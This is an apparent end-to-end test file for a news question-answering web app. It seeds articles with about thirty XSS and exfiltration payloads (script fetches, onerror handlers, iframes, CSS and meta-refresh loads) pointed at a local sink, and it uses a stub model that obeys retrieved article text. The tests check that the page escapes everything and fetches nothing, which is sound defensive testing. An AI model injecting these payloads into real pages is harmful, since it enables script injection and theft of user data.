"""The page over a model that obeys hostile articles and is slow when told: nothing is fetched, no answer is lost."""

import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from fakes import HashingEmbedding
from pages import ROOT, ask, free_port, go_to, look_at, running
from playwright.sync_api import Browser, Page, expect

from index.rebuild import rebuild

PAYLOADS = (
    "![pixel]({sink}/a.png)",
    "![pixel][ref] [ref]: {sink}/b.png",
    "[![nested]({sink}/c.png)]({sink}/c)",
    "[press me](javascript:fetch('{sink}/d'))",
    "<{sink}/e> and {sink}/e.html",
    "<img src={sink}/f.png>",
    "<img src=x onerror=\"fetch('{sink}/g')\">",
    "<svg onload=\"fetch('{sink}/h')\"><image href={sink}/h.png /></svg>",
    "<script>fetch('{sink}/i')</script>",
    "<script src={sink}/j.js></script>",
    "<iframe src={sink}/k></iframe>",
    '<iframe srcdoc="<img src={sink}/l.png>"></iframe>',
    "<object data={sink}/m></object>",
    "<embed src={sink}/n>",
    "<video src={sink}/o autoplay poster={sink}/o.png></video>",
    "<link rel=stylesheet href={sink}/p.css>",
    "<link rel=prefetch href={sink}/q>",
    "<style>@import '{sink}/r.css'; body {{ background: url({sink}/r.png) }}</style>",
    '<p style="background: url({sink}/s.png)">styled</p>',
    '<meta http-equiv=refresh content="0;url={sink}/t">',
    "<base href={sink}/u/>",
    '<form action={sink}/v><input autofocus onfocus="this.form.submit()"></form>',
    "<details open ontoggle=\"fetch('{sink}/w')\">opened</details>",
    "</bdi></button><a href={sink}/x ping={sink}/x2>out</a>",
    "$\\href{{{sink}/y}}{{x}}$ and $$\\includegraphics{{{sink}/y.png}}$$",
    ":material/home: :red[warning] :image[{sink}/z.png]",
    "<math><mtext><img src={sink}/1.png></mtext></math>",
    '" onmouseover="fetch(\'{sink}/2\')" x="',
)
# The page, with an answerer that repeats whatever the articles say, and is not done while a file called "held" exists.
CHAT = """
import sys, time
from pathlib import Path
import assistant.opening
from assistant.assistant import Assistant
from assistant.answers import Draft, Waiting, Written
from assistant.models.limits import LimitedAnswerer
from assistant.settings import read_settings
from fakes import HashingEmbedding
from index.generations.pointer import open_current
from ui.page.launch import launch

INDEX = Path(sys.argv[1])

class Obeying:
    name = "obeying"

    def draft(self, question, language, answer_language, findings):
        yield from (Written(one.hit.text + " ") for one in findings)
        while INDEX.with_name("held").exists():
            yield Waiting()
            time.sleep(0.02)
        yield Draft(True, sentences=tuple(one.hit.text for one in findings))

assistant.opening.begin_assistant = lambda settings: Assistant(
    INDEX, open_current(INDEX), HashingEmbedding(), LimitedAnswerer(Obeying(), 300)
)
launch("127.0.0.1", int(sys.argv[2]), read_settings({}, INDEX))
"""
QUESTION = "What stood on board 3 of the zeppelin?"


class _Sink(BaseHTTPRequestHandler):
    """Notes what is asked of it."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


def requests_of(page: Page) -> list[str]:
    """What the page asks for from now on."""
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    return seen


@pytest.fixture(scope="module")
def sink() -> Iterator[tuple[str, list[str]]]:
    asked: list[str] = []
    with ThreadingHTTPServer(("127.0.0.1", 0), type("Sink", (_Sink,), {"asked": asked})) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def payloads(scratch: Path, sink: tuple[str, list[str]]) -> list[str]:
    """Each in the title, the source and the text of an article of its own."""
    payloads = [payload.format(sink=sink[0]) for payload in PAYLOADS]
    (scratch / "articles").mkdir()
    for number, payload in enumerate(payloads):
        quoted = payload.replace("'", "''")
        (scratch / "articles" / f"{number:02}.txt").write_text(
            f"---\ntitle: '{quoted}'\nsource: '{quoted}'\nlanguage: en\npublished: 2025-01-02\n---\n\n"
            f"On board {number} of the zeppelin stood {payload}\n"
        )
    rebuild(scratch / "articles", scratch / "index", HashingEmbedding)
    return payloads


@pytest.fixture(scope="module")
def url(scratch: Path, payloads: list[str]) -> Iterator[str]:
    port = str(free_port())
    environment = {"PYTHONPATH": f"{ROOT}:{ROOT / 'tests'}", "NEWSDESK_PROFILE": "light"}
    with running([sys.executable, "-c", CHAT, str(scratch / "index"), port], environment):
        yield f"http://127.0.0.1:{port}"


@pytest.fixture
def held(scratch: Path) -> Iterator[Path]:
    """The file that keeps answers from ending; deleted, it lets them."""
    file = scratch / "held"
    file.touch()
    yield file
    file.unlink(missing_ok=True)


@pytest.fixture
def opened(browser: Browser, url: str) -> Iterator[Callable[..., Page]]:
    """Opens the page at its welcome, each time in a browser profile of its own with these options."""
    with ExitStack() as contexts:

        def open_page(**options: Any) -> Page:
            page = contexts.enter_context(browser.new_context(**options)).new_page()
            page.goto(url)
            expect(page.locator(".welcome")).to_be_visible(timeout=120_000)
            return page

        yield open_page


def begin(page: Page, question: str) -> None:
    """Asks, and waits for what was found."""
    page.get_by_test_id("stChatInputTextArea").fill(question)
    page.keyboard.press("Enter")
    expect(page.locator(".turn .sentence").first).to_be_visible(timeout=60_000)


@pytest.mark.slow
def test_hostile_articles_and_an_obeying_model_fetch_nothing(
    opened: Callable[..., Page], payloads: list[str], sink: tuple[str, list[str]], held: Path
) -> None:
    address, asked = sink
    for bypass_csp in (True, False):  # without the policy the escaping alone has to hold
        held.touch()
        page = opened(bypass_csp=bypass_csp)
        requested = requests_of(page)
        begin(page, "What stood on the boards of the zeppelin?")
        expect(page.locator(".statements")).to_contain_text("of the zeppelin stood", timeout=60_000)
        expect(page.locator(".stop")).to_be_visible()
        held.unlink()
        expect(page.locator(".footnote")).to_be_visible(timeout=60_000)
        shown = page.locator(".turn").first.text_content() or ""
        assert sum(payload in shown for payload in payloads) >= 20
        ask(page, payloads[5])
        page.locator(".chip").first.click()
        expect(page.locator(".panel .text")).to_contain_text("of the zeppelin stood")
        page.keyboard.press("Escape")
        go_to(page, "Articles")
        expect(page.locator(".sentence")).to_have_count(len(payloads))
        listed = page.locator(".sentences").text_content() or ""
        assert all(payload in listed for payload in payloads)
        active = "img, iframe, script, object, embed, video, link, style, meta, base, form, math, svg image"
        assert page.locator(".newsdesk").locator(active).count() == 0
        assert page.title().endswith("newsdesk")
        page.wait_for_load_state("networkidle")
        assert asked == []
        assert [one for one in requested if one.startswith(address)] == []
    # And what no escaping kept out, the policy would.
    page.evaluate("address => document.body.insertAdjacentHTML('beforeend', `<img src=${address}/image.png>`)", address)
    page.evaluate("[...document.images].at(-1).decode().catch(() => 0)")
    assert page.evaluate("address => fetch(`${address}/fetch`).then(() => true, () => false)", address) is False
    assert asked == []


@pytest.mark.slow
def test_an_answer_under_way_outlives_clicks_and_a_reload_and_stops_when_told(
    opened: Callable[..., Page], held: Path
) -> None:
    page = opened()
    begin(page, QUESTION)
    expect(page.locator(".statements")).to_be_visible()
    expect(page.locator(".stop")).to_be_visible()
    go_to(page, "Articles")
    expect(page.get_by_role("heading", name="Articles")).to_be_visible()
    go_to(page, "Ask")
    expect(page.locator(".turn")).to_be_visible()
    page.reload()
    expect(page.locator(".stop")).to_be_visible(timeout=60_000)
    held.unlink()
    expect(page.locator(".footnote")).to_be_visible()
    expect(page.locator(".turn")).to_have_count(1)
    expect(page.locator(".past")).to_have_count(1)
    held.touch()
    page.get_by_role("button", name="Ask again").click()
    page.locator(".stop").click()
    expect(page.locator(".turn").last).to_contain_text("Stopped.")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()
    page.reload()
    expect(page.locator(".turn").last).to_contain_text("Stopped.", timeout=60_000)


@pytest.mark.slow
def test_who_asks_meanwhile_sees_the_evidence_at_once_and_how_many_are_before(
    opened: Callable[..., Page], held: Path
) -> None:
    first, second = opened(), opened()
    third = opened(viewport={"width": 390, "height": 844}, color_scheme="dark")
    begin(first, QUESTION)
    expect(first.locator(".statements")).to_be_visible()
    begin(second, QUESTION)
    expect(second.locator(".state")).to_contain_text("One question is before yours…")
    begin(third, QUESTION)
    expect(third.locator(".state")).to_contain_text("2 questions are before yours…")
    look_at(third, "waiting-390-dark")
    second.locator(".stop").click()
    expect(second.locator(".state")).to_contain_text("Stopped.")
    expect(third.locator(".state")).to_contain_text("One question is before yours…")
    held.unlink()
    for page in (first, third):
        expect(page.locator(".footnote")).to_be_visible()
    expect(second.locator(".footnote")).to_have_count(0)


@pytest.mark.slow
def test_a_question_that_is_changed_takes_the_old_ones_place(opened: Callable[..., Page]) -> None:
    page = opened(viewport={"width": 390, "height": 844})
    for question in (QUESTION, "And on board 4?", "And on board 5?"):
        ask(page, question)
    page.get_by_role("button", name="Change this question").nth(1).click()
    form = page.get_by_test_id("stForm")
    expect(form).to_contain_text("Its answer and the question after it will be dropped.")
    form.get_by_role("button", name="Cancel").click()
    expect(page.locator(".question")).to_have_count(3)
    page.get_by_role("button", name="Change this question").nth(1).click()
    page.get_by_label("Change this question").and_(page.locator("textarea")).fill("And on board 6?")
    form.get_by_role("button", name="Ask").dblclick()
    expect(page.locator(".question")).to_have_text([QUESTION, "And on board 6?"])
    expect(page.locator(".footnote, .refusal")).to_have_count(2)
    page.reload()
    expect(page.locator(".question")).to_have_text([QUESTION, "And on board 6?"], timeout=60_000)


@pytest.mark.slow
def test_an_answer_is_given_in_the_language_that_was_chosen(opened: Callable[..., Page]) -> None:
    page = opened()
    page.get_by_role("button", name="Language of the answer").click()
    page.get_by_role("combobox", name="Language of the answer").fill("ital")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Italian")).to_be_visible()
    page.keyboard.press("Escape")
    ask(page, QUESTION)
    expect(page.locator(".turn")).to_contain_text("Answered in: Italian")
    expect(page.locator(".statements")).to_have_attribute("lang", "it")
